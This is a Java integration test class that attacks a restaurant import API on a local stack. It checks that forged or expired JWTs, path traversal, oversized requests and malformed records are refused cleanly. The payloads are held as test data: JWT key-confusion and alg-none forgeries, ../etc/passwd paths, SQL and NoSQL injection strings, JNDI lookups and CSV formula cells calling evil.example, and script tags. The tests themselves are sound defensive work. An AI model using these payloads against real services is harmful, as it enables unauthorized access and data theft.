package com.bellyfed.imports.jobs;

import static com.bellyfed.imports.jobs.ImportApi.jobId;
import static com.bellyfed.imports.jobs.ImportApi.restaurantsIn;
import static com.bellyfed.imports.jobs.ImportFlowIntegrationTests.restaurantJson;
import static com.bellyfed.imports.jobs.ImportFlowIntegrationTests.uniqueCity;
import static org.assertj.core.api.Assertions.assertThat;

import com.bellyfed.events.topology.Topology;
import com.bellyfed.imports.ImportServiceTest;
import com.bellyfed.localaws.LocalAws;
import com.bellyfed.localaws.cognito.ProvisionedPool;
import com.bellyfed.testing.EventTap;
import com.bellyfed.testing.HttpApi;
import com.bellyfed.testing.RawHttp;
import com.bellyfed.testing.ProblemWalk;
import com.bellyfed.testing.TappedEvent;
import com.nimbusds.jose.JWSAlgorithm;
import com.nimbusds.jose.JWSHeader;
import com.nimbusds.jose.crypto.MACSigner;
import com.nimbusds.jose.crypto.RSASSASigner;
import com.nimbusds.jose.jwk.JWKSet;
import com.nimbusds.jose.jwk.RSAKey;
import com.nimbusds.jose.jwk.gen.RSAKeyGenerator;
import com.nimbusds.jose.util.Base64URL;
import com.nimbusds.jwt.JWTClaimsSet;
import com.nimbusds.jwt.PlainJWT;
import com.nimbusds.jwt.SignedJWT;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.URI;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.util.Date;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Function;
import java.util.stream.Stream;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalManagementPort;
import org.springframework.boot.test.web.server.LocalServerPort;
import software.amazon.awssdk.services.dynamodb.DynamoDbClient;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * The import API under attack, over real HTTP with real tokens of local-aws's pool (issue 18): bad
 * tokens, a plain user, oversized and malformed requests, injection and path traversal in ids and
 * cursors. A refused request gets a 4xx problem that says what was wrong, leaves no job and no
 * restaurant behind, and the service stays healthy.
 *
 * <p>Hostile records inside a well-formed upload (JSON nested 10,000 deep, numbers of 10,000 digits,
 * invalid UTF-8, NUL bytes) are not request errors: the body is streamed, so, as for any bad record,
 * the job reports each with its line and reason and writes none of them (docs/import-service.md).
 */
@ImportServiceTest
class ImportHostileInputIntegrationTests {

  private static EventTap restaurantBus;
  private static EventTap systemBus;
  /** The jobs this class started on purpose; any other ImportStarted would be a refused request's. */
  private static final java.util.Set<String> STARTED_HERE = java.util.concurrent.ConcurrentHashMap.newKeySet();

  @LocalServerPort int port;
  @LocalManagementPort int managementPort;
  @Autowired DynamoDbClient dynamoDb;
  @Autowired Topology topology;
  @Autowired JsonMapper json;

  private ImportApi admin;
  private ProblemWalk walk;
  private String city;

  @BeforeAll
  static void tapBuses(LocalAws localAws, Topology topology) {
    String everything = "{\"source\":[{\"prefix\":\"\"}]}";
    restaurantBus = EventTap.on(localAws.sqs(), localAws.eventBridge(), topology.bus("restaurant").name(), everything);
    systemBus = EventTap.on(localAws.sqs(), localAws.eventBridge(), topology.bus("system").name(), everything);
  }

  @AfterAll
  static void closeTaps() {
    restaurantBus.close();
    systemBus.close();
  }

  @BeforeEach
  void setUp(LocalAws localAws) {
    admin = ImportApi.asAdmin(port, localAws);
    walk = new ProblemWalk(port, json);
    city = uniqueCity();
  }

  @AfterEach
  void theServiceIsStillHealthy() {
    HttpApi.Answer health = new HttpApi(managementPort).get("/actuator/health");
    assertThat(health.status()).isEqualTo(200);
    assertThat(health.body()).contains("\"status\":\"UP\"");
  }

  // ---- tokens ----

  static Stream<Arguments> badTokens() {
    return Stream.of(
        Arguments.of("missing", (Function<LocalAws, String>) localAws -> null, "bearer token"),
        Arguments.of("expired", (Function<LocalAws, String>) localAws -> localAws.signIn("hostile-user", claims -> claims
            .issueTime(Date.from(Instant.now().minus(Duration.ofHours(2))))
            .expirationTime(Date.from(Instant.now().minus(Duration.ofMinutes(5)))), "admin").accessToken(), "expired"),
        Arguments.of("not yet valid", (Function<LocalAws, String>) localAws -> localAws.signIn("hostile-user", claims -> claims
            .notBeforeTime(Date.from(Instant.now().plus(Duration.ofMinutes(10)))), "admin").accessToken(), "used before"),
        Arguments.of("wrong issuer", (Function<LocalAws, String>) localAws -> localAws.signIn("hostile-user", claims -> claims
            .issuer("https://cognito-idp.eu-west-1.amazonaws.com/eu-west-1_Other"), "admin").accessToken(), "iss"),
        Arguments.of("wrong client", (Function<LocalAws, String>) localAws -> localAws.signIn("hostile-user", claims -> claims
            .claim("client_id", "someone-elses-app"), "admin").accessToken(), "client"),
        Arguments.of("an ID token", (Function<LocalAws, String>) localAws -> localAws.signIn("hostile-user", "admin").idToken(),
            "access token"),
        Arguments.of("alg none", (Function<LocalAws, String>) localAws -> new PlainJWT(adminClaims(localAws)).serialize(), null),
        Arguments.of("HS256 keyed with the public key", (Function<LocalAws, String>) ImportHostileInputIntegrationTests::hs256WithPublicKey,
            null),
        Arguments.of("tampered signature", (Function<LocalAws, String>) localAws -> {
          String[] parts = localAws.signIn("hostile-user", "admin").accessToken().split("\\.");
          byte[] signature = new Base64URL(parts[2]).decode();
          signature[10] ^= 0x01;
          return parts[0] + "." + parts[1] + "." + Base64URL.encode(signature);
        }, null),
        Arguments.of("admin claims under a plain user's signature", (Function<LocalAws, String>) localAws -> {
          String[] user = localAws.signIn("hostile-plain", "user").accessToken().split("\\.");
          String[] admin = localAws.signIn("hostile-user", "admin").accessToken().split("\\.");
          return admin[0] + "." + admin[1] + "." + user[2];
        }, null),
        Arguments.of("unknown kid", (Function<LocalAws, String>) ImportHostileInputIntegrationTests::signedWithAnUnpublishedKey, null));
  }

  @ParameterizedTest(name = "{0}")
  @MethodSource("badTokens")
  void refusesABadTokenOnEveryOperationWithoutStartingAnything(String name, Function<LocalAws, String> token, String describedAs,
      LocalAws localAws) {
    String bearer = token.apply(localAws);
    String[] authorization = bearer == null ? new String[0] : new String[] {"Authorization", "Bearer " + bearer};
    String job = finishedJob();
    String newest = newestJob();

    for (String[] request : operations(job)) {
      HttpResponse<String> answer = walk.send(request[0], request[1], request[2], request[3], authorization);
      JsonNode problem = walk.problem(answer, 401, "unauthorized");
      String challenge = answer.headers().firstValue("WWW-Authenticate").orElseThrow();
      if (bearer == null) {
        // RFC 6750 section 3.1: no error code when the request carried no credentials.
        assertThat(challenge).isEqualTo("Bearer");
      } else {
        assertThat(challenge).startsWith("Bearer error=\"invalid_token\"");
      }
      assertThat(problem.path("detail").asString()).as(request[0] + " " + request[1]).isNotBlank();
      if (describedAs != null) {
        assertThat(problem.path("detail").asString() + " " + challenge).containsIgnoringCase(describedAs);
      }
    }

    assertNothingStarted(newest);
    assertThat(admin.job(job).path("state").asString()).as("not cancelled").isEqualTo("COMPLETED");
  }

  @ParameterizedTest(name = "groups {0}")
  @ValueSource(strings = {"user", "", "Admin", "administrators"})
  void aUserOutsideTheAdminGroupGets403OnEveryOperation(String group, LocalAws localAws) {
    String[] groups = group.isEmpty() ? new String[0] : new String[] {group};
    String token = localAws.signIn("hostile-plain-" + (group.isEmpty() ? "nogroup" : group), groups).accessToken();
    String newest = newestJob();
    String job = finishedJob();
    String running = jobId(accepted(admin.post("restaurants", "application/x-ndjson", restaurantJson("Running", city, 1))));

    for (String[] request : operations(job)) {
      JsonNode problem = walk.problem(walk.send(request[0], request[1], request[2], request[3], "Authorization", "Bearer " + token),
          403, "forbidden");
      assertThat(problem.path("detail").asString()).isNotBlank();
    }
    walk.problem(walk.send("DELETE", "/api/imports/" + running, null, null, "Authorization", "Bearer " + token), 403, "forbidden");

    assertThat(admin.job(job).path("state").asString()).isEqualTo("COMPLETED");
    assertThat(admin.awaitSettled(running, Duration.ofSeconds(30)).path("state").asString()).as("not cancelled by the user").isEqualTo("COMPLETED");
    assertThat(restaurantsIn(dynamoDb, topology, city)).as("only the admin's import").isEqualTo(1);
    assertThat(newestJob()).isEqualTo(running);
    assertThat(newest).isNotEqualTo(running);
  }

  // ---- sizes ----

  @Test
  void refusesOversizedHeadersAndBodiesBeforeReadingThem() throws IOException {
    String newest = newestJob();

    walk.problem(walk.send("POST", "/api/imports?type=restaurants", "application/x-ndjson", restaurantJson("Big", city, 1),
        "Authorization", admin.authorization(), "X-Padding", "p".repeat(20_000)), 431, "headers-too-large");
    walk.problem(walk.send("GET", "/api/imports", null, null, "Authorization", admin.authorization() + "x".repeat(20_000)),
        431, "headers-too-large");
    // Over this test's 64 MB, announced up front with a valid token: refused before a byte is read.
    JsonNode tooLarge = walk.problem(raw("POST /api/imports?type=restaurants HTTP/1.1\r\nHost: localhost\r\nAuthorization: "
        + admin.authorization() + "\r\nContent-Type: application/x-ndjson\r\nContent-Length: 10000000000\r\n\r\n"), 413, "payload-too-large");
    assertThat(tooLarge.path("detail").asString()).contains(Long.toString(64L * 1024 * 1024));

    assertNothingStarted(newest);
  }

  // ---- parameters, ids and cursors ----

  static Stream<String> injections() {
    return Stream.of(
        "' OR '1'='1", "1; DROP TABLE import-jobs; --", "{\"$ne\": null}", "{\"$gt\": \"\"}", "attribute_exists(jobId)",
        "jobId = :v OR 1 = 1", "${jndi:ldap://evil.example/a}", "#{7*7}", "*", "%", "\u0000", "\uFEFF\u202E", "a".repeat(5_000));
  }

  @ParameterizedTest
  @MethodSource("injections")
  void anInjectionStringIsJustABadCursorLimitOrTypeAndAnUnknownJobId(String injection) {
    String newest = newestJob();
    String encoded = HttpApi.encode(injection).replace("+", "%20");

    walk.invalid(walk.send("GET", "/api/imports?cursor=" + encoded, null, null, "Authorization", admin.authorization()), "cursor");
    walk.invalid(walk.send("GET", "/api/imports?limit=" + encoded, null, null, "Authorization", admin.authorization()), "limit");
    walk.invalid(walk.send("POST", "/api/imports?type=" + encoded, "application/x-ndjson", restaurantJson("Injected", city, 1),
        "Authorization", admin.authorization()), "type");
    // As a job id: ';', '%', '/' and NUL never reach the service (pathTraversalInAJobIdIsRefusedBeforeTheService).
    if (injection.chars().noneMatch(c -> c == ';' || c == '%' || c == '/' || c == 0)) {
      for (String[] request : new String[][] {
          {"GET", "/api/imports/" + encoded}, {"GET", "/api/imports/" + encoded + "/progress"}, {"DELETE", "/api/imports/" + encoded}}) {
        JsonNode problem = walk.problem(walk.send(request[0], request[1], null, null, "Authorization", admin.authorization()), 404, "not-found");
        assertThat(problem.path("detail").asString()).as(request[0] + " " + request[1]).contains("job ids are UUIDs");
      }
    }

    assertNothingStarted(newest);
  }

  @Test
  void aNumberOfTenThousandDigitsIsABadLimit() {
    JsonNode problem = walk.invalid(walk.send("GET", "/api/imports?limit=" + "9".repeat(10_000), null, null,
        "Authorization", admin.authorization()), "limit");
    assertThat(problem.path("errors").get(0).path("reason").asString()).contains("100");
  }

  /**
   * Spring Security's firewall refuses these before any filter of the service: a 400 problem whose detail says
   * what was refused (service-kit's RequestRejectedHandler).
   */
  @ParameterizedTest
  @CsvSource(delimiter = '|', value = {
      "/api/imports/%2e%2e/%2e%2e/actuator/env                | an encoded dot",
      "/api/imports/..;/..;/actuator/env                      | a semicolon",
      "/api/imports/%252e%252e%252fetc%252fpasswd             | an encoded percent sign",
      "/api/imports/....//....//etc/passwd                    | an empty path segment",
      "/api/imports/../../actuator/env                        | not normalized",
      "/api/imports/x;jsessionid=1                            | a semicolon",
      "/api/imports/%25                                       | an encoded percent sign",
      "/api/imports/1%3B%20DROP%20TABLE%20import-jobs%3B%20-- | a semicolon"})
  void pathTraversalInAJobIdIsRefusedBeforeTheService(String path, String named) throws IOException {
    String newest = newestJob();

    for (String method : List.of("GET", "DELETE")) {
      // A raw request line: a client library would normalise the dots before sending.
      HttpResponse<String> answer = raw(method + " " + path + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: " + admin.authorization()
          + "\r\nConnection: close\r\n\r\n");
      JsonNode problem = walk.problem(answer, 400, "invalid-request");
      assertThat(problem.path("detail").asString()).as(method + " " + path)
          .startsWith("The request was refused by the server's firewall: ").contains(named);
      assertThat(answer.body()).doesNotContain("activeProfiles", "propertySources", "root:");
    }
    assertNothingStarted(newest);
  }

  /**
   * Tomcat refuses an encoded '/' or '\\', an encoded NUL and overlong UTF-8 in the path itself, before
   * Spring sees the request: a 400 problem all the same (service-kit's error report valve), never Tomcat's
   * HTML page, and nothing reached.
   */
  @ParameterizedTest
  @ValueSource(strings = {
      "/api/imports/..%2F..%2Factuator%2Fenv", "/api/imports/..%5C..%5Cetc%5Cpasswd", "/api/imports/%c0%ae%c0%ae/etc/passwd",
      "/api/imports/%00/progress", "/api/imports/%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"})
  void encodedSeparatorsAndNulInAJobIdAreRefusedByTheContainer(String path) throws IOException {
    String newest = newestJob();

    for (String method : List.of("GET", "DELETE")) {
      HttpResponse<String> answer = raw(method + " " + path + " HTTP/1.1\r\nHost: localhost\r\nAuthorization: " + admin.authorization()
          + "\r\nConnection: close\r\n\r\n");
      assertThat(answer.statusCode()).as(answer.body()).isEqualTo(400);
      JsonNode problem = walk.problem(answer, 400, "invalid-request");
      assertThat(problem.path("detail").asString()).as(method + " " + path).contains("refused before it reached the service");
      assertThat(answer.body()).doesNotContain("activeProfiles", "propertySources", "root:", "Exception", "at com.", "<html")
          .doesNotContainIgnoringCase("tomcat");
    }
    assertNothingStarted(newest);
  }

  // ---- malformed bodies and hostile records ----

  @Test
  void malformedBodiesAndHeaderRowsAreRefusedOrRejectedLineByLine() {
    String newest = newestJob();

    walk.invalid(walk.send("POST", "/api/imports?type=restaurants", "text/csv", "name,\"city\n", "Authorization", admin.authorization()),
        "header");
    walk.invalid(walk.send("POST", "/api/imports?type=restaurants", "text/csv", "\u0000\u0001\u0002\n", "Authorization",
        admin.authorization()), "header");
    walk.problem(walk.send("POST", "/api/imports?type=restaurants", "application/json", "[" + restaurantJson("A", city, 1) + "]",
        "Authorization", admin.authorization()), 415, "unsupported-media-type");
    assertNothingStarted(newest);
  }

  @Test
  void hostileRecordsAreEachRejectedWithTheirLineAndNoneIsWritten() {
    String deep = "{\"a\":".repeat(10_000) + "1" + "}".repeat(10_000);
    String digits = "9".repeat(10_000);
    ByteArrayOutputStream ndjson = new ByteArrayOutputStream();
    lines(ndjson,
        utf8("[".repeat(10_000) + "]".repeat(10_000)),                                              // 1 nested 10,000 deep
        utf8(restaurantJson("Deep", city, 1).replace("\"name\":\"Deep\"", "\"name\":" + deep)),    // 2 ... as a field
        utf8(restaurantJson("Digits", city, 1).replace("\"priceLevel\":1", "\"priceLevel\":" + digits)), // 3 10,000 digits
        utf8(restaurantJson("Far", city, 1).replace("}", ",\"lat\":1e1000000,\"lon\":1}")),       // 4 beyond a double
        withByte(restaurantJson("Bad X", city, 1), (byte) 0xFF),                                   // 5 not UTF-8
        withByte(restaurantJson("Nul X", city, 1), (byte) 0x00),                                   // 6 NUL
        utf8(restaurantJson("Nul", city, 1).replace("\"Nul\"", "\"Nul\\u0000\"")),                 // 7 escaped NUL: text
        utf8(restaurantJson("Trav", city, 1).replace("{", "{\"restaurantId\":\"../../etc/passwd\",")), // 8 traversal as an id
        utf8("{\"name\":\"" + "x".repeat(70_000) + "\"}"));                                       // 9 over-long
    String csvCity = uniqueCity();
    ByteArrayOutputStream csv = new ByteArrayOutputStream();
    lines(csv,
        utf8("name,city,cuisine,address,priceLevel,lat,lon"),
        utf8("Digits," + csvCity + ",Thai,1 Road," + digits + ",,"),                               // 2
        utf8("NaN," + csvCity + ",Thai,1 Road,1,NaN,1"),                                           // 3
        withByte("Bad X," + csvCity + ",Thai,1 Road,1,,", (byte) 0xC3),                            // 4
        withByte("Nul X," + csvCity + ",Thai,1 Road,1,,", (byte) 0x00),                            // 5
        withByte("\"Nul X\"," + csvCity + ",Thai,1 Road,1,,", (byte) 0x00),                        // 6 NUL inside quotes
        utf8("Cr," + csvCity + ",Thai,1 Road\r,1,,"));                                             // 7 CR outside quotes

    JsonNode ndjsonJob = admin.awaitSettled(jobId(accepted(admin.post("/api/imports?type=restaurants",
        () -> new java.io.ByteArrayInputStream(ndjson.toByteArray()), "Content-Type", "application/x-ndjson"))), Duration.ofSeconds(30));
    JsonNode csvJob = admin.awaitSettled(jobId(accepted(admin.post("/api/imports?type=restaurants",
        () -> new java.io.ByteArrayInputStream(csv.toByteArray()), "Content-Type", "text/csv"))), Duration.ofSeconds(30));

    Map<Long, String> ndjsonRejections = rejections(ndjsonJob);
    assertThat(ndjsonRejections).containsOnlyKeys(1L, 2L, 3L, 4L, 5L, 6L, 8L, 9L);
    assertThat(ndjsonRejections.get(1L)).startsWith("not a restaurants record");
    assertThat(ndjsonRejections.get(2L)).contains("name");
    assertThat(ndjsonRejections.get(3L)).startsWith("beyond the parser's limits: Number value length (10000)");
    assertThat(ndjsonRejections.get(4L)).contains("lat and lon must be finite numbers");
    assertThat(ndjsonRejections.get(5L)).startsWith("line is not valid UTF-8");
    assertThat(ndjsonRejections.get(6L)).startsWith("line contains the control character U+0000");
    assertThat(ndjsonRejections.get(8L)).contains("restaurantId", "UUID");
    assertThat(ndjsonRejections.get(9L)).contains("longer than the limit");
    assertThat(ndjsonJob.path("counts").path("written").asLong()).as("only the escaped NUL, which is text").isEqualTo(1);
    assertThat(restaurantsIn(dynamoDb, topology, city)).isEqualTo(1);

    Map<Long, String> csvRejections = rejections(csvJob);
    assertThat(csvRejections).containsOnlyKeys(2L, 3L, 4L, 5L, 6L, 7L);
    assertThat(csvRejections.get(2L)).startsWith("beyond the parser's limits: Number value length (10000)");
    assertThat(csvRejections.get(3L)).contains("lat and lon must be finite numbers");
    assertThat(csvRejections.get(4L)).startsWith("line is not valid UTF-8");
    assertThat(csvRejections.get(5L)).startsWith("line contains the control character U+0000");
    assertThat(csvRejections.get(6L)).startsWith("line contains the control character U+0000");
    assertThat(csvRejections.get(7L)).isNotBlank();
    assertThat(csvJob.path("state").asString()).isEqualTo("COMPLETED_WITH_ERRORS");
    assertThat(csvJob.path("counts").path("written").asLong()).isZero();
    assertThat(restaurantsIn(dynamoDb, topology, csvCity)).isZero();
    assertNoRestaurantEventMentions(city, csvCity);
  }

  /**
   * CSV injection (OWASP): cells a spreadsheet would run as formulas are plain text to the store, kept
   * exactly as given, neither evaluated nor prefixed nor stripped of their sign, and so are SQL, NoSQL and
   * template injection strings. Only the outer whitespace every text loses goes (a leading tab or CR too).
   */
  @Test
  void formulaCellsAndInjectionStringsAreStoredExactlyAsTheCellGivesThem() {
    List<String> cells = List.of(
        "=1+1", "+1", "-2+3", "@SUM(A1:A9)", "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "=cmd|' /C calc'!A0",
        "-@=+", "'; DROP TABLE restaurants; --", "{\"$ne\": null}", "${jndi:ldap://evil.example/a}", "#{7*7}", "<script>alert(1)</script>");
    List<String> ids = new java.util.ArrayList<>();
    StringBuilder csv = new StringBuilder("restaurantId,name,city,cuisine,address,tags\n");
    for (String cell : cells) {
      String id = UUID.randomUUID().toString();
      ids.add(id);
      csv.append(id).append(',').append(quoted(cell)).append(',').append(city).append(',').append(quoted(cell)).append(',')
          .append(quoted(cell)).append(',').append(quoted(cell.replace("|", "") + "|@tag")).append('\n');
    }
    String tabbed = UUID.randomUUID().toString();
    String carriageReturned = UUID.randomUUID().toString();
    csv.append(tabbed).append(",\"\t=1+1\",").append(city).append(",Thai,1 Road,\n");
    csv.append(carriageReturned).append(",\"\r=1+1\",").append(city).append(",Thai,1 Road,\n");

    JsonNode job = admin.awaitSettled(jobId(accepted(admin.post("restaurants", "text/csv", csv.toString()))), Duration.ofSeconds(30));

    assertThat(job.path("state").asString()).as(job.toString()).isEqualTo("COMPLETED");
    for (int i = 0; i < cells.size(); i++) {
      Map<String, software.amazon.awssdk.services.dynamodb.model.AttributeValue> item = restaurant(ids.get(i));
      assertThat(item.get("name").s()).isEqualTo(cells.get(i));
      assertThat(item.get("cuisine").s()).isEqualTo(cells.get(i));
      assertThat(item.get("address").s()).isEqualTo(cells.get(i));
      assertThat(item.get("tags").l()).extracting(software.amazon.awssdk.services.dynamodb.model.AttributeValue::s)
          .containsExactly(cells.get(i).replace("|", ""), "@tag");
    }
    assertThat(restaurant(tabbed).get("name").s()).isEqualTo("=1+1");
    assertThat(restaurant(carriageReturned).get("name").s()).isEqualTo("=1+1");
  }

  private Map<String, software.amazon.awssdk.services.dynamodb.model.AttributeValue> restaurant(String restaurantId) {
    return dynamoDb.getItem(request -> request.tableName(topology.table("restaurants").name()).consistentRead(true)
        .key(Map.of("restaurantId", software.amazon.awssdk.services.dynamodb.model.AttributeValue.fromS(restaurantId)))).item();
  }

  private static String quoted(String cell) {
    return "\"" + cell.replace("\"", "\"\"") + "\"";
  }

  // ---- helpers ----

  /** Each operation once: method, path, content type, body; the job is a real one. */
  private String[][] operations(String job) {
    return new String[][] {
        {"POST", "/api/imports?type=restaurants", "application/x-ndjson", restaurantJson("Refused", city, 1)},
        {"GET", "/api/imports", null, null},
        {"GET", "/api/imports/" + job, null, null},
        {"GET", "/api/imports/" + job + "/progress", null, null},
        {"DELETE", "/api/imports/" + job, null, null}};
  }

  /** A settled job of the admin's, shared by the cases of one test. */
  private String finishedJob() {
    String job = jobId(accepted(admin.post("restaurants", "application/x-ndjson", restaurantJson("Existing", uniqueCity(), 1))));
    admin.awaitSettled(job, Duration.ofSeconds(30));
    return job;
  }

  private String newestJob() {
    return admin.get("/api/imports?limit=1").json().path("items").path(0).path("jobId").asString("");
  }

  /**
   * No job was made: the newest is the same, and the only ImportStarted events on the system bus since the
   * class began are of the jobs it started itself. No restaurant of the case's city was written, and no
   * restaurant event names it.
   */
  private void assertNothingStarted(String newestBefore) {
    assertThat(newestJob()).as("no job was created").isEqualTo(newestBefore);
    assertThat(restaurantsIn(dynamoDb, topology, city)).as("nothing written").isZero();
    assertNoRestaurantEventMentions(city);
    for (TappedEvent event : systemBus.receive(0)) {
      if (event.event().path("detail-type").asString().equals("ImportStarted")) {
        assertThat(STARTED_HERE).as("jobs started by this class").contains(event.event().path("detail").path("data").path("jobId").asString());
      }
    }
  }

  private static void assertNoRestaurantEventMentions(String... cities) {
    for (TappedEvent event : restaurantBus.receive(0)) {
      for (String city : cities) {
        assertThat(event.body()).doesNotContain(city);
      }
    }
  }

  private static HttpApi.Answer accepted(HttpApi.Answer answer) {
    assertThat(answer.status()).as(answer.body()).isEqualTo(202);
    STARTED_HERE.add(jobId(answer));
    return answer;
  }

  private static Map<Long, String> rejections(JsonNode job) {
    Map<Long, String> rejections = new java.util.TreeMap<>();
    job.path("rejections").forEach(rejection -> rejections.put(rejection.path("line").asLong(), rejection.path("reason").asString()));
    return rejections;
  }

  /** A request written byte for byte on a socket, for what no HTTP client sends. */
  private HttpResponse<String> raw(String request) {
    return RawHttp.send(port, request, Duration.ofSeconds(20));
  }

  private static byte[] utf8(String line) {
    return line.getBytes(StandardCharsets.UTF_8);
  }

  /** The line with its first 'X' replaced by one raw byte. */
  private static byte[] withByte(String line, byte b) {
    byte[] bytes = utf8(line);
    for (int i = 0; i < bytes.length; i++) {
      if (bytes[i] == 'X') {
        bytes[i] = b;
        return bytes;
      }
    }
    throw new IllegalArgumentException("no X in " + line);
  }

  private static void lines(ByteArrayOutputStream body, byte[]... lines) {
    for (byte[] line : lines) {
      body.writeBytes(line);
      body.write('\n');
    }
  }

  private static JWTClaimsSet adminClaims(LocalAws localAws) {
    try {
      return SignedJWT.parse(localAws.signIn("hostile-user", "admin").accessToken()).getJWTClaimsSet();
    } catch (java.text.ParseException e) {
      throw new IllegalStateException(e);
    }
  }

  /** The key-confusion attack: HS256 with the pool's published RSA key as the HMAC secret, under that key's kid. */
  private static String hs256WithPublicKey(LocalAws localAws) {
    try {
      ProvisionedPool pool = localAws.userPool();
      RSAKey published = (RSAKey) JWKSet.load(URI.create(pool.issuer() + "/.well-known/jwks.json").toURL()).getKeys().get(0);
      SignedJWT token = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.HS256).keyID(published.getKeyID()).build(), adminClaims(localAws));
      token.sign(new MACSigner(published.toRSAPublicKey().getEncoded()));
      return token.serialize();
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

  /** Signed with a key the pool never published, under a kid of its own. */
  private static String signedWithAnUnpublishedKey(LocalAws localAws) {
    try {
      RSAKey unpublished = new RSAKeyGenerator(2048).keyID("not-the-pools-" + UUID.randomUUID()).generate();
      SignedJWT token = new SignedJWT(new JWSHeader.Builder(JWSAlgorithm.RS256).keyID(unpublished.getKeyID()).build(), adminClaims(localAws));
      token.sign(new RSASSASigner(unpublished));
      return token.serialize();
    } catch (Exception e) {
      throw new IllegalStateException(e);
    }
  }

}
